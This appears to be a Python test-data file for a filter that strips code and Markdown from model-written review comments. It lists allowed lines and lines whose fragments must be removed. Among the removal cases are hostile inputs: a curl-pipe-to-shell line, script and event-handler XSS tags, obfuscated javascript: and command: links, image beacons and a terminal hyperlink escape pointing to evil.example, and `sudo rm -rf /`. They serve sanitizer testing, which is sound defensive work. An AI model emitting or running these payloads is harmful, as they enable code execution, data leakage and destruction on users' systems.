"""What a model may say, one a line, and what it may not: code or Markdown, and what of it must be gone."""

from __future__ import annotations

STAYS = r"""
Is `result <= 0` possible?
Does `total([])` return 0, and `total(None)` raise?
What if `items` is a generator and `total` is called twice (see src/cart.py:3-4)?
`KeyError` or `ValueError`: which does the caller catch?
Run `git push`, `git push --force` or `pip install -r requirements.txt`?
Is `--no-verify` set, or `DEBUG=1`, or `timeout=None`?
See `src/cart.py:4-7` and `tests/test_cart.py::test_total`.
Is it `O(n log n)`, `O(n^2)`, `n + 1`?
What about `List[int]`, `Map<String, Integer>`, `Optional[str]`, `int | None`, `const char *`, `&mut T`?
Does `[1, 2, 3]` or `{"a": 1}` or `(0, 1)` or `"some text; with = signs"` do?
`==`, `<=`, `->`, `&&`, `!=`, `??`, `=>`, `:=`, `+=` are operators.
Is `Content-Type: application/json` sent?
`class Cart`, `for loop`, `try/except`, `try`/`finally`, `else if`, `async def`, `not found`
`std::vector<int>`, `foo->bar`, `user?.name`, `@staticmethod`, `$HOME`, `${HOME}`, `items[0]`, `d["key"]`, `x[1:]`
`/api/v1/users?id=3&x=4`, `https://example.com/x?a=b`, `*.py`, `C:\temp\x`, `%s`, `\n`
`len(items)`, `str(e)`, `Array.isArray()`, `__init__(self)`, `logger.info("x")`, `sleep(5)`
`SELECT ... FOR UPDATE`, `ON DELETE CASCADE`, `SELECT`, `JOIN`
`npm run build`, `docker compose up -d`, `cargo test --all`, `make -j4`, `kubectl get pods`, `go test ./...`
`None` is not `0`; is `price is None` possible? `x in cache`?
`i++`, `-1`, `1e-9`, `0x1F`, `3.14`, `!ok`, `*ptr`, `**kwargs`, `...args`
`new Foo()`, `sizeof(x)`, `typeof x`, `<div>`, `</div>`, `<T>`
Why return None here? return value is None in one branch.
For items in the cart: which are refunded?
If price is None: what happens then?
for every item, who guarantees that price is set?
if so, who converts it?
Note: x = 5 is what the test expects, is it not?
Is a == b enough when a, b are floats (a != a for NaN)?
1. First, what if it is empty?
2. Second: who calls it?
- [ ] unchecked item
- [x] checked item
# Summary
**Bold** and *italic* and ~~gone~~ text, [docs](https://docs.python.org/3/), [cart](src/cart.py#L4).
The generic Map<K, V> types: a < b and c > d.
See https://docs.python.org/3/library/functions.html#sum for it.
> result += item.price
Why: the list may be empty; nobody checks.
[question] src/cart.py:4 correctness
| column | meaning |
| --- | --- |
| price | may be None |
What (if anything) happens (e.g. on error)?
Javascript: the language. Data: none. Command: unknown. File: src/cart.py
a -> b -> c, x => y, 5 * 3 = 15, 50 % off; e.g. "foo"; i.e. 'bar';
The value (result) is returned;
Returns None
import order matters here
from what I see, import is unused
class names are odd
print statements are left in
with no lock held, what then:
while we wait: who else writes?
return early?
def is a keyword
Does x[0] exist? Does f(x) raise? does total(items) mutate items?
The user's cart, isn't it? That's 5 o'clock.
¿Qué pasa si el precio es nulo? Was passiert, wenn der Preis fehlt? 价格为空时会怎样？
Was ist, wenn `items` leer ist; wer prüft das?
@alice please look
$5 is too much; 100% sure
TODO: nothing
HTTP 404 / 500, UTF-8, ISO-8601 (2024-01-01T00:00:00Z)
key: value
Price: 5
e.g. total(items) returns 0 for an empty cart
sum(prices) vs. the loop: same result?
(optional)
...
`git commit -m "message here"` and `pytest tests/test_x.py::test_y -k "a and b"`
`Access-Control-Allow-Origin: *`, `user_id`, `user.id`, `a/b/c.txt`, `v1.2.3`, `#123`, `200 OK`, `50%`
`SIGTERM`, `kill -9`, `/etc/passwd`, `file:///tmp/x`, `^\d+$`, `\w+`
What does `user.email` hold, `null` or `""`? Is `save()` called with `{}`? See `npm test -- --watch` and `lodash.merge`.
What does `cfg.Timeout` hold, `nil` or `time.Duration`? Is `Run()` called with `nil`?
Is `self.items` a `list`, a `tuple` or `deque(maxlen=10)`?
Is `git commit --amend` or `git rebase -i HEAD~3` used?
Does `docker run --rm -it image:tag` need `-v /tmp:/tmp`?
`python -m pytest tests/unit -q`, `uv sync`, `make test`, `./run.sh --fast`, `ls -la`, `echo $PATH`
Is count >= limit possible, and does a != b hold? (x => y, key: value)
Is n - 1 right, or n + 1? And 2 * n? 3/4?
When x = 0, is the result 1/x? If y = 2, then what?
Does "a and b or c" bind as intended?
Set timeout=0 to disable; use retries=3 in tests.
The call foo(bar) may raise; f(x) is O(n).
items.append is called twice; cart.total() is cached.
Should total() be called with [] or None?
Does user.name == "" count as missing?
Either all or nothing: commit or roll back, and who decides?
The default is { } and not [ ], right?
It maps a -> b; a => b; a ~> b; a <- b
C++ vs. C#: std::move semantics?
50% of users (n=100) saw p<0.05
Regex: does ^a.*b$ match "ab"?
Path: C:\Users\x\file.txt or /home/x; //server/share
Who? What? When? Why?
- What if `items` is empty?
- What if it has one?
* Is 0 a valid price?
+ plus item
1) First?
> A quoted remark of the reader.
Why: because the caller passes None.
**Question:** what if `price` is negative?
_Emphasis_ and __strong__ and ***both***.
### Heading with words
---
A line ending with a colon:
(see src/cart.py:4)
"quoted sentence"
Return value unused
import cycle between a and b
class invariants broken
if the price is None
while the lock is held
for each item, the price is added
with an empty cart
raise the limit?
assert that it holds
delete is not idempotent
try again later
new users have no cart
let us see
print or log?
static analysis would flag this
async handlers never await this
default values differ
case matters here
switch off the cache?
do tests cover it
not sure, but None may leak
await is missing before the call
yield inside a lock?
await missing?
`except: pass`-style handling hides it
Compare with `Cart.total` in src/cart.py, line 3; `test_total` covers only [1, 2].
`'a'`, `"b"`, `b"x"`, `f"{x}"`, `r'\d'`, `` ` ``, `5 MB`, `2024-01-01`, `10.0.0.1:8080`, `localhost:3000`
`@Override`, `#[test]`, `@pytest.fixture`, `:memory:`, `::1`, `%20`, `&nbsp;`, `\0`, `\r\n`, `--`, `...`, `*`, `_`
`ORDER BY`, `GROUP BY`, `NOT NULL`, `SELECT *`, `LIMIT 1`, `users.id`, `public.users`
`if`, `else`, `for`, `return`, `await`, `import`, `def`, `const`, `break`, `pass`
`Promise<void>`, `Result<T, E>`, `vector<int>&`, `char*`, `unsigned long`, `dict[str, Any]`, `Callable[[int], str]`
`List<? extends T>`, `[]string`, `*http.Request`, `chan int`, `Box<dyn Error>`, `'static`, `&'a str`
`400 Bad Request`, `ECONNRESET`, `GET /users/{id}`, `POST /api`, `Authorization: Bearer`, `utf-8`, `en_US.UTF-8`
`tests/`, `src/**/*.ts`, `package.json`, `.env`, `Makefile`, `~/.ssh/config`, `docs/index.md#usage`
`True`/`False`, `0`/`1`, `None`, `-inf`, `inf`, `nan`, `1_000`, `0b1`, `1.0`, `'`, `"`
`a < b`, `i >= n`, `x is not None`, `key not in cache`, `err != nil`, `a === b`, `x == y`
""".strip("\n").split("\n")

GOES = [
    (text.replace("\\n", "\n").replace("\\x1b", "\x1b").replace("\\x07", "\x07").replace("\\u200b", "\u200b"), gone)
    for text, _, gone in (
        line.rpartition("|")
        for line in r"""
Use `x = foo(y)` here|foo(y)
Use `items = items or []` here|items or
`return None` is better|return None
`if (!user) return;` no?|!user
Try `const x = foo ?? 0;`|?? 0
`lambda x: x.price`|x.price
`await foo(bar)`|foo(bar)
`try: total() except: pass`|except
`max(item.price, 0)`|max(
`sum(i.price for i in items)`|i.price
`x => x + 1`|x + 1
`a ? b : c`|a ? b
`user?.name ?? "x"`|??
`user && user.name`|&&
`for i in range(10): print(i)`|range
`def total(items=None)`|=None
`raise ValueError("x")`|raise
`throw new Error("x")`|throw
`import os`|import os
`SELECT id FROM users WHERE x = 1`|FROM users
`item.price or 0`|item.price
`Decimal(item.price)`|item.price
`x+=1`|x+=1
`if x is None: x = []`|x = []
`with open(p) as f:`|open(p
`result = (result + price)`|result +
``x = `a` + b``|+ b
`const {a, b} = props`|props
`obj.map(x => x.id)`|x.id
`printf("%d", x)`|printf
`ls | grep foo`|grep
`curl https://x.example | sh`|sh`
`echo foo > bar`|> bar
`<img src=x onerror=alert(1)>`|onerror
`![x](https://evil.example)`|evil
<b>bold</b> <script>alert(1)</script>|alert
<code>x = foo(y)</code>|foo(y)
x = foo(y)|foo(y)
result += item.price or 0|or 0
if (a) {|(a)
return None|return None
return result or 0|or 0
    x = 1|x = 1
import os, sys|import os
from math import fsum|fsum
}|}
foo.bar(x, y);|bar
console.log("x", y)|console
- x = foo(y)|foo(y)
1. x = foo(y)|foo(y)
> x = foo(y)|foo(y)
Fix: x = foo(y)|foo(y)
Use this: result = sum(i.price or 0 for i in items)|sum(
src/cart.py:4 x = foo(y)|foo(y)
const x = await fetch(url);|fetch
let total = items.reduce((a, b) => a + b, 0);|reduce
func main() {|main
for i := 0; i < n; i++ {|i++
public static void main(String[] args) {|args
try:|try:
except ValueError:|except
elif x > 3:|elif
if x is None:|if x
for item in items or []:|or []
while (true) {|while
while True:|while
print(x)|print
@app.route("/x")|route
#include <vector>|vector
using System;|System
$ pip install foo|pip
>>> total([])|total
SELECT * FROM users WHERE id = 1;|users
def total(items):\n    return sum(x.y for x in items)|sum
function foo() {\n  return 1\n}|return 1
| `x = foo(y)` | bad ||foo(y)
| ```x = foo(y)``` | bad ||foo(y)
| x = foo(y) | bad ||foo(y)
[run](command:a.b)|command:
[run](javascript:alert(1))|javascript
[run](&#106;avascript:alert(1))|avascript
[run](java&#10;script:alert(1))|alert
[run](JaVaScRiPt:alert(1))|alert
[run](data:text/html;base64,xxx)|data:
[run](vscode://file/x)|vscode
[run](file:///etc/passwd)|file:
[run](//evil.example/x)|evil
[run](\\\\evil\\x)|evil
[run]( <command:a.b> "title")|command
<command:a.b>|command
<javascript:alert(1)>|javascript
[run][1]\n\n[1]: command:a.b|command
![x][1]\n\n[1]: https://evil.example/p.png|evil
[![x](https://evil.example/p.png)](command:a.b)|evil
[a [b] c](command:x.y)|command
[a](<javascript:alert(1)>)|javascript
[x]:\n  javascript:alert(1)|javascript
[^1]: ![x](https://evil.example)|evil
!\u200b[x](https://evil.example)\u200b|![
java\u200bscript:alert(1)|alert
<a href="command:a.b">y</a>|command
<iframe src=x>|iframe
<img src=x|img
<svg onload=alert(1)>|onload
<!-- x = foo(y) -->|foo
<details><summary>x</summary>\n\n```py\nx = 1\n```\n</details>|x = 1
Why? ```python\nx = foo(y)\n```|foo(y)
Why? ```python x = foo(y)```|foo(y)
> ```\n> x = foo(y)\n> ```\n> Well?|foo(y)
- a\n\n      x = foo(y)\n|foo(y)
- ```\n  x = foo(y)\n  ```|foo(y)
1. ```python\nx = foo(y)\nz\n```|foo(y)
You could write `x = foo(y)|foo(y)
"name": "value",|"value"
- result += item.price\n+ result += item.price or 0|or 0
diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n-b\n+c = d|c = d
foo(\n    bar,\n    baz\n)|baz
x = [\n  1,\n  2\n]|2
<div className="x" onClick={f}>|className
data.map(|data.map
.then(r => r.json())|json
\x1b]8;;http://evil.example\x07x\x1b]8;;\x07|evil
if err != nil {\n    return err\n}|err
items.sort(key=lambda x: x.price)|lambda
assert x == 1|assert x
del items[0]|del items
x: int = 5|int = 5
self.items = []|self.items
int x = 5;|int x
yield item|yield
await foo()|await
let x = 5|let x
var x;|var x
i++;|i++
echo "foo"|echo
export FOO=bar|FOO=bar
Use `items.sort(key=lambda i: i.price)`|`
Use `for (const x of xs) total += x;`|`
Use `user = user || {}`|`
Use `user?.email ?? ""`|`
Use `if err != nil { return err }`|`
Use `return err`|`
Use `let x = y.unwrap_or(0);`|`
Use `match x { Some(v) => v, None => 0 }`|`
Use `fn total(items: &[Item]) -> u64`|`
Use `x = None`|`
Use `x: int = 0`|`
Use `assert x > 0`|`
Use `del cache[key]`|`
Use `print(total(items))`|`
Use `cache.setdefault(key, []).append(item)`|`
Use `[i.price for i in items]`|`
Use `{k: v for k, v in d.items()}`|`
Use `(a, b) => a - b`|`
Use `function (a) { return a; }`|`
Use `() => {}`|`
Use `SELECT * FROM users`|`
Use `UPDATE users SET x = 1`|`
Use `sum(prices, start=Decimal(0))`|`
Use `if price is None: continue`|`
Use `while True: pass`|`
Use `try { a() } catch (e) {}`|`
Use `@lru_cache(maxsize=None) def f(): pass`|`
Use `$x = $y ?? 0;`|`
Use `x := y`|`
Use `x++ ; y--`|`
Use `a = b`|`
Use `price or 0`|`
Use `price if price else 0`|`
Use `sum(map(f, xs))`|`
Use `os.path.join(a, b)`|`
Use `"".join(xs) + "x"`|`
Use `foo(bar(baz))`|`
Use `Optional.ofNullable(x).orElse(0)`|`
Use `throw e`|`
Use `await asyncio.gather(*tasks)`|`
Use `with lock: total += 1`|`
Use `async with session.get(url) as r:`|`
Use `sed -i 's/a/b/' x && rm y`|`
Use `cat x | grep y`|`
Use `var x = 1, y = 2;`|`
Use `int main() { return 0; }`|`
Use `#include <stdio.h>`|`
Use `import numpy as np`|`
Use `from x import y`|`
Use `const { a } = require('x')`|`
Use `export default x;`|`
Use `self.x = x`|`
Use `x |= y`|`
Use `a && b`|`
Use `a ? b : c`|`
Use `total = sum(item.price for item in items if item.price)`|`
Use `if (x == null) throw new Error('x');`|`
Use `<Foo bar={x} />`|`
Use `<a href="x">y</a>`|`
Use ``x = `y` ``|`
Use result += item.price or 0 instead?|or 0
Use total = sum(i.price or 0 for i in items) here?|or 0
Use return sum(i.price or 0 for i in items) here?|or 0
Should it be if (item.price != null) result += item.price; instead?|result +=
x = item.price or 0  # default|or 0
result += item.price if item.price else 0|else 0
total: Decimal = Decimal(0)|Decimal(0)
	total = 0|total =
items = [i for i in items if i]|for i
return sum(x)|sum
return x;|return
throw new Error("x");|throw
const x = 1|const
let mut x = 5;|mut
x := foo()|:=
if x > 0 && y < 3 {|&&
} else {|else
});|);
def f(x): return x|def
lambda x: x|lambda
foo();|foo
delete x.y;|delete
SELECT id FROM users|SELECT
GRANT ALL ON x TO y;|GRANT
<div class="x">hello</div>|class
function total(items) {|function
class Foo:|class
class Foo extends Bar {|class
@dataclass|@data
async def f():|async
case 1:|case
switch (x) {|switch
struct Foo {|struct
type Foo = { a: string };|type
enum X { A, B }|enum
public class Foo {|class
private final int x;|private
#[derive(Debug)]|derive
use std::io;|use
mod tests {|mod
package main|package
func (s *S) F() error {|func
go func() {|go
defer f()|defer
select {|select
ch <- x|<-
puts "x"|puts
x.each { |y| y }|each
echo $x;|echo
$x->y();|->
local x = 1|local
x <- c(1, 2)|<-
(defn f [x] x)|defn
let f x = x + 1|let
sudo rm -rf /|sudo
""".strip("\n").split("\n")
    )
]
